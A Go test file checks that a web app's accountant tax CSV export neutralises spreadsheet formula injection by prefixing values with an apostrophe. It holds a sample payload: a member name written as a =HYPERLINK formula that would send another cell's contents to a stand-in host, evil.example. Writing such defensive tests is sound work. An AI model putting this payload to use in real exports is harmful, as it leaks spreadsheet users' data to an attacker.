package main

import (
	"context"
	"encoding/csv"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
)

// A member's name is the member's to choose; in the accountant's tax CSV a
// name that a spreadsheet would run as a formula is written as text.
func TestTaxExportNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	clk := newClock()
	a, err := newApp(context.Background(), config{Now: clk.Now, Warn: io.Discard, Logger: slog.New(slog.NewTextHandler(io.Discard, nil))})
	require.NoError(t, err)
	t.Cleanup(a.Close)
	ts := httptest.NewTLSServer(a)
	t.Cleanup(ts.Close)
	mallory := newClient(t, ts, clk)
	name := `=HYPERLINK("https://evil.example/?d="&C2,"invoice")`
	org := mallory.call("POST", "/signup", map[string]string{"organisation": "Acme", "name": name,
		"email": "m@example.com", "password": "correct horse battery staple"}, http.StatusOK)["org"].(string)
	mallory.enrolMFA(org)
	mallory.call("PUT", "/orgs/"+org+"/me/tax-id", map[string]string{"tax_id": "-12-3456789"}, http.StatusNoContent)
	status, body, _ := mallory.do("GET", "/orgs/"+org+"/tax/export", nil)
	require.Equal(t, http.StatusOK, status, "%s", body)
	rows, err := csv.NewReader(strings.NewReader(string(body))).ReadAll()
	require.NoError(t, err)
	require.Len(t, rows, 2)
	require.Equal(t, "'"+name, rows[1][1])
	require.Equal(t, "'-12-3456789", rows[1][2])
}
